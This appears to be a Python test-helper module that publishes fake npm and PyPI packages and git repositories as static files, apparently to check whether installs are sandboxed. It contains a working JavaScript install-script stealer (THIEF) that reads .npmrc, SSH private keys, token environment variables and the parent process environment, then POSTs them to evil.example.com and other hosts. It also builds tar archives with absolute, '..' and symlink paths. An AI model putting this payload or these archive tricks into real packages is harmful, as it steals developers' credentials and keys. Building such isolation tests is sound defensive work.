"""Packages of npm and PyPI with anything in them, as files that any web server can give."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import subprocess
import tarfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any, Final, NamedTuple

from net.registry import NAME, SERVER

__all__ = ["NAME", "SERVER", "Release", "link", "publish", "publish_repository", "publish_source"]

# What an install script of a thief does: it looks for what is worth something, tells it to a host
# by every way it knows, and leaves beside itself what it found and what became of telling it.
THIEF: Final = """
const fs = require("fs"), os = require("os"), path = require("path");
const read = (file) => { try { return fs.readFileSync(file, "utf8"); } catch (e) { return e.code; }
};
const list = (place) => { try { return fs.readdirSync(place); } catch (e) { return e.code; } };
const homes = [os.homedir(), OUTSIDE];
const found = {
    npmrc: homes.map((home) => read(path.join(home, ".npmrc"))),
    key: homes.map((home) => read(path.join(home, ".ssh/id_rsa"))),
    projects: list(path.join(OUTSIDE, "projects")),
    env: Object.entries(process.env).filter(([, value]) => /TOKEN|CANARY/.test(value)),
    parent: read(`/proc/${process.ppid}/environ`).includes("CANARY"),
};
const tell = async (url) => {
    try { return (await fetch(url, {method: "POST", body: JSON.stringify(found)})).status; }
    catch (e) { return (e.cause ?? e).code ?? String(e); }
};
(async () => {
    found.told = [await tell("https://evil.example.com/MARK"),
                  await tell("https://93.184.216.35/MARK"),
                  await tell("https://files.example.com/MARK")];
    try { fs.writeFileSync(path.join(OUTSIDE, "projects/planted"), "x"); found.wrote = true; }
    catch (e) { found.wrote = e.code; }
    fs.writeFileSync(path.join(__dirname, "found.json"), JSON.stringify(found));
})();
"""


class Release(NamedTuple):
    """One version: what its package.json says more, its files, other members of its archive."""

    manifest: Mapping[str, Any] = {}
    files: Mapping[str, str] = {}
    members: tuple[tarfile.TarInfo, ...] = ()
    server: str = SERVER


def publish(
    folder: Path,
    url: str,
    releases: Mapping[str, Release],
    *,
    name: str = NAME,
    tags: Mapping[str, str] | None = None,
) -> None:
    """Put versions of a package into a registry below a folder served as this URL.

    The last one is the newest, unless `tags` say otherwise.
    """
    base = name.rpartition("/")[2]
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    versions: dict[str, Any] = {}
    for version, release in releases.items():
        manifest: dict[str, Any] = {"name": name, "version": version, "bin": {base: "server.js"}}
        manifest |= dict(release.manifest)
        packed = _packed(manifest, release)
        file = f"{base}-{version}.tgz"
        (folder / file).write_bytes(packed)
        digest = base64.b64encode(hashlib.sha512(packed).digest()).decode()
        dist = {"tarball": f"{url}/{file}", "integrity": f"sha512-{digest}"}
        versions[version] = dict(manifest) | {"dist": dist}
        if "scripts" in manifest:
            versions[version]["hasInstallScript"] = True
    about = {"name": name, "dist-tags": {"latest": list(releases)[-1]} | dict(tags or {})}
    (folder / name).write_text(json.dumps(about | {"versions": versions}))


def publish_repository(folder: Path, files: Mapping[str, str]) -> None:
    """A repository of git as files that any web server can give, at a folder; git(1)."""
    work = folder.with_name(f"{folder.name}-work")
    for path, text in files.items():
        place = work / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
        place.chmod(0o755)
    who = ("-c", "user.name=n", "-c", "user.email=n@example.com")
    inside = ("git", "-C", str(work))
    for words in (
        (*inside, "init", "-q"),
        (*inside, "add", "-A"),
        (*inside, *who, "commit", "-q", "-m", "all"),
        ("git", "clone", "-q", "--bare", str(work), str(folder)),
        ("git", "-C", str(folder), "update-server-info"),
    ):
        subprocess.run(words, check=True, capture_output=True)


def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
    """A link in an archive."""
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname = kind, target
    return entry


def publish_source(
    folder: Path, url: str, name: str, files: Mapping[str, str], *, page: str
) -> None:
    """A PyPI package that is there as source only, in an index that is served as this URL."""
    folder.mkdir(exist_ok=True)
    file = f"{name}-1.0.tar.gz"
    with tarfile.open(folder / file, "w:gz") as archive:
        for path, text in files.items():
            _add(archive, f"{name}-1.0/{path}", text)
    digest = hashlib.sha256((folder / file).read_bytes()).hexdigest()
    listed = folder / page / "index.html"
    listed.parent.mkdir()
    listed.write_text(f'<!DOCTYPE html><a href="{url}/{file}#sha256={digest}">{file}</a>')


def _packed(manifest: Mapping[str, Any], release: Release) -> bytes:
    packed = io.BytesIO()
    files = {"package.json": json.dumps(manifest), "server.js": release.server, **release.files}
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for path, text in files.items():
            _add(archive, path if path.startswith(("/", "..")) else f"package/{path}", text)
        for member in release.members:
            archive.addfile(member)
    return packed.getvalue()


def _add(archive: tarfile.TarFile, path: str, text: str) -> None:
    entry = tarfile.TarInfo(path)
    entry.size, entry.mode = len(text.encode()), 0o755
    archive.addfile(entry, io.BytesIO(text.encode()))
